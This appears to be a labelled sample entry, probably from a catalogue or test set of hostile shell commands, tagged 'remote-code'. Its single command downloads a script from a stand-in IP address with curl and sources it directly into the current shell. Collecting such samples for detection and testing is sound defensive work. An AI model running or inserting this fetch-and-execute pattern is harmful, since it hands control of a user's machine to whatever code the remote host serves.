# description: Sources a downloaded file into the current shell.
# family: remote-code
source <(curl -s http://198.51.100.7/env.sh)
